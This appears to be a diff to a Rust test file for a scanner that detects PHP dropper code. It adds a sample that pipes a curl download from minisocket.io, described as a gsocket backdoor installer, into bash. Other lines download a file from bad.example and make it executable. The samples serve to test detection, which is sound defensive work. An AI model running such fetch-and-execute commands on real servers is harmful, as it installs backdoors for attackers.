@@ -513,6 +513,11 @@ fn droppers_are_found() {
     // A port checked with bash's `/dev/tcp` starts no shell for anyone.
     let probe = "<?php exec('timeout 1 bash -c \"echo > /dev/tcp/127.0.0.1/3306\" && echo open', $out);";
     assert!(found(probe).is_empty(), "{:?}", found(probe));
+    // fresh111's gsocket installers: a download run as the text of a shell's command.
+    let substituted = "<?php system('bash -c \"$(curl -fsSL https://minisocket.io/bin/x)\"')";
+    assert_eq!(found(substituted), [Why::DownloadsProgram]);
+    // (A command's output kept, nothing fetched run: quiet.)
+    assert!(found("<?php $v = shell_exec('bash -c \"$(which php) -v\"');").is_empty());
     let readme = "<?php exec('wget https://example.org/notes.txt -O notes.txt; cat notes.txt');";
     assert!(found(readme).is_empty(), "{:?}", found(readme));
     let chmod = "<?php $c = 'curl -s -o /tmp/k https://bad.example/k && chmod +x /tmp/k'; shell_exec($c);";
